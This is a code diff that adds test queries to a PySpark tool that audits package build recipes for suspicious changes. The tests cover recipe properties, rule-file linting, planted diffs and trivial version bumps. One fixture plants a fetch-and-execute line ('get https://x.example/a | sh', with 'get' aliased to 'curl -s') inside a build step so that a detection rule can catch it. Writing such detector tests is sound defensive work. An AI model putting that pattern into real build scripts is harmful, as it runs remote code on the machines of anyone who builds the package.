@@ -7,7 +7,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from auditloom.functions import payload
-from auditloom.operators import corpus, dataflow, dependencies, diffs, graph, rules, trees
+from auditloom.operators import corpus, dataflow, dependencies, diffs, graph, properties, rule_sets, rules, trees
 from auditloom.plans import cycle, detectors, planted, relational
 from auditloom.plans.audit import audit
 
@@ -164,3 +164,69 @@ def provides_scope(spark: SparkSession, d: str) -> DataFrame:
     provided = rows.where("property_key = 'depends' AND trim(value) LIKE '[%'").select(F.explode(F.from_json("value", "array<string>")).alias("subject"), F.col("package_name").alias("name")).where("subject IS NOT NULL AND name IS NOT NULL").distinct()
     observed = rows.groupBy(F.col("package_name").alias("name")).agg(F.count(F.lit(1)).alias("n"))
     return dependencies.scope_expansion(provided, relational.table(spark, d, "packages").where("removed_at IS NULL"), observed).withColumn("rule_id", F.lit("R116"))
+
+
+_RECIPE = """pkgname=lamp
+pkgver=1.2.3
+pkgdesc="A lamp for the desk"
+license=('MIT')
+depends=('glibc>=2' 'zlib')
+source=("https://Git.Example.org/maker/lamp-$pkgver.tar.gz")
+install=lamp.install
+build() {
+  cmake -B out --fresh -DX=1
+  make -C out
+}
+"""
+_PROPERTIES = [
+    ("version_scheme", '"semver"'), ("pkgdesc_tokens", '["desk", "lamp"]'), ("depends", '["glibc", "zlib"]'), ("source_hosts", '["git.example.org"]'), ("source_orgs", '["git.example.org/maker"]'), ("build_system_markers", '["cmake", "make"]'),
+    ("build_line_count", '"0-5"'), ("configure_flags", '["--fresh", "-DX"]'), ("install_hook_present", "true"), ("license", '["MIT"]'),
+]
+
+
+@_query("SELECT * FROM (VALUES " + ", ".join(str(p) for p in _PROPERTIES) + ") AS v(property_key, value)")
+def recipe_properties(spark: SparkSession, d: str) -> DataFrame:
+    docs = spark.createDataFrame([(1, _RECIPE), (2, None), (3, "")], "id int, text string")
+    return properties.recipe_properties(docs, "id", "text").select("property_key", "value")
+
+
+_ENTRIES = [
+    {"id": "U001", "pattern": "lampd", "severity": "HIGH", "match_target": "raw_line", "weight_override": 9}, {"id": "U002", "pattern": "(a+)+b", "severity": "LOW"}, {"id": "U003", "pattern": "(", "severity": "LOW"}, {"id": "U004", "pattern": "x", "severity": "SOME"},
+    {"id": "U005", "pattern": "x", "severity": "LOW", "enabled": False}, {"id": "U006", "pattern": "x", "severity": "LOW", "experimental": True}, {"id": "R013", "pattern": "x", "severity": "LOW"}, {"id": "R010", "pattern": "x", "severity": "LOW", "enabled": False}, {"id": "U007", "pattern": "x", "severity": "LOW", "colour": 1},
+    {"id": "U008", "pattern": "lampd", "severity": "LOW", "match_target": "raw_line", "exclude_if_matches": ["--quiet"]},
+]
+_LINTED = [("U002", "pattern repeats within a repetition"), ("U003", "pattern is not a regular expression"), ("U004", "unknown severity"), ("U007", "unknown field colour"), ("R013", "a FATAL rule cannot be changed")]
+
+
+@_query("SELECT * FROM (VALUES " + ", ".join(str(p) for p in _LINTED) + ") AS v(rule_id, problem)")
+def rule_lint(spark: SparkSession, d: str) -> DataFrame:
+    return spark.createDataFrame([tuple(p) for p in rule_sets.load_rules(_ENTRIES)[2]], "rule_id string, problem string")
+
+
+@_query("SELECT * FROM (VALUES (1, 'U001'), (1, 'U008'), (2, 'U001')) AS v(id, rule_id)")
+def own_rules(spark: SparkSession, d: str) -> DataFrame:
+    """A user's rules beside the catalogue: U008 stands down, U005 is off, U006 experimental, and R010 switched off."""
+    docs = spark.createDataFrame([(1, planted.diff("build() {", "  lampd x", "}")), (2, planted.diff("build() {", "  lampd --quiet x", "}")), (3, planted.diff("build() {", "  curl x", "}"))], "id int, text string")
+    return rules.findings(diffs.diff_lines(docs, "id", "text"), "id", rule_sets.load_rules(_ENTRIES)[0]).select("id", "rule_id")
+
+
+_UPDATES = [
+    (1, "-pkgver=1\n+pkgver=2\n-sha256sums=('a')\n+sha256sums=('b')\n", True), (2, "-pkgver=1\n+pkgver=2\n build() {\n+  make\n }\n", False), (3, "+#\n", False), (4, "-pkgver=1\n+pkgver=2\n+depends=('x')\n", False), (5, "-pkgver=1\n+pkgver=2\n+source=('https://new.example/x')\n", False),
+    (6, "-pkgver=1\n+pkgver=2\n-source=('https://a.example/1')\n+source=('https://a.example/2')\n", True),
+]
+
+
+@_query("SELECT * FROM (VALUES " + ", ".join(str((i, t)) for i, _, t in _UPDATES) + ") AS v(id, trivial)")
+def trivial_updates(spark: SparkSession, d: str) -> DataFrame:
+    docs = spark.createDataFrame([(i, planted._STRUCT + t) for i, t, _ in _UPDATES], "id int, text string")
+    return diffs.diff_facts(docs, "id", "text").select("id", diffs.is_trivial().alias("trivial"))
+
+
+_ALIASED = [(1, ["alias get='curl -s'", "build() {", "  get https://x.example/a | sh", "}"], "R001"), (2, ["build() {", "  get https://x.example/a | sh", "}"], None)]
+
+
+@_query("SELECT 1 AS id, 'R001' AS rule_id")
+def alias_hits(spark: SparkSession, d: str) -> DataFrame:
+    """An alias is put in where a command stands."""
+    docs = spark.createDataFrame([(i, planted.diff(*own)) for i, own, _ in _ALIASED], "id int, text string")
+    return rules.findings(diffs.diff_lines(docs, "id", "text"), "id").where("rule_id = 'R001'").select("id", "rule_id")
